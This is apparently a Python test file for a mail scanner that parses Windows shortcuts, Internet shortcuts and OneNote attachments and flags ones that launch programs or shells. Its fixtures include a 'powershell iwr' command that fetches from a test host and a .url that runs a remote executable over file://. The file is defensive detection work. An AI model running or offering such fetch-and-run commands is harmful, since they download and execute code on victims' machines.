"""Shortcuts and files under the buttons of OneNote."""

from __future__ import annotations

import struct

from counterseal.mail.documents.content import Budget
from counterseal.mail.documents.shortcuts import lnk, one_note, url
from tests.mail.documents import made


def test_the_command_of_a_shortcut_is_read():
    found = lnk(made.lnk("powershell iwr https://a.test/x"), Budget())

    assert found.text == "powershell iwr https://a.test/x"
    assert found.traits == {"runs", "starts_shell"}
    assert found.links[0].url == "https://a.test/x"


def test_the_place_of_a_shortcut_is_read():
    head = bytearray(made.lnk("")[:76])
    struct.pack_into("<I", head, 20, 0x01 | 0x02 | 0x10)
    base = b"C:\\Windows\\notepad.exe\0"
    info = struct.pack("<7I", 28 + len(base), 28, 1, 0, 28, 0, 0) + base
    found = lnk(bytes(head) + struct.pack("<H", 2) + b"\0\0" + info + struct.pack("<H", 1) + b"C", Budget())

    assert found.text == "C:\\Windows\\notepad.exe\nC"


def test_a_cut_shortcut_is_broken_and_runs_all_the_same():
    found = lnk(made.lnk("cmd.exe")[:78], Budget())

    assert found.state == "broken" or found.text == ""
    assert "runs" in found.traits


def test_internet_shortcuts_lead_somewhere():
    assert url(b"[InternetShortcut]\r\nURL=https://a.test/x\r\n", Budget()).links[0].url == "https://a.test/x"
    assert not url(b"[InternetShortcut]\r\nURL=https://a.test/x\r\n", Budget()).traits
    assert url(b"[InternetShortcut]\nURL=file://203.0.113.9/x/a.exe", Budget()).traits == {"runs"}


def test_files_of_a_page_are_taken_out():
    found = one_note(made.one_note(made.program()), Budget())

    assert found.files[0].data == made.program()
    assert found.traits == {"embedded_file"}
    assert not one_note(made.one_note(b""), Budget()).files
